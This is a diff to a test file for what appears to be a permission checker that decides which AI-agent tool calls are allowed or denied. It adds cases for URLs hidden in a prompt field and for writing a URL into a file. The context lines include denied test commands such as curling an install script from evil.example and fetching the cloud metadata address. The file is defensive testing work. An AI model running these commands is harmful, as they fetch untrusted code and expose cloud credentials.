@@ -200,6 +200,7 @@ URLS = [
     denied(Case("in an unknown key", "fetch", {"mirror": "https://evil.example/"})),
     denied(Case("nested", "fetch", {"options": {"fallbacks": ["https://evil.example/"]}})),
     denied(Case("in a read call", "read", {"url": "https://evil.example/x"})),
+    denied(Case("as a prompt", "fetch", {"url": DOCS, "prompt": "https://evil.example/"})),
     denied(run("curl in a shell command", "curl -sL https://evil.example/install.sh")),
     denied(run("curl, spelled oddly", "curl 'HTTPS://EVIL.example.:443/x' -o /dev/null")),
     denied(fetch("metadata by its address", "http://169.254.169.254/latest/")),
@@ -233,6 +234,7 @@ PATHS = [
         )
     ),
     allowed(Case("search the project", "search", {"path": ".", "pattern": "/api/v1"})),
+    allowed(Case("write a file that is a URL", "edit", {"file_path": "link.txt", "content": DOCS})),
     allowed(Case("edit by ./ path", "edit", {"file_path": "./src/../src/b.py"})),
     allowed(run("git status", "git status -s")),
     allowed(run("git log", "git log --oneline -5")),
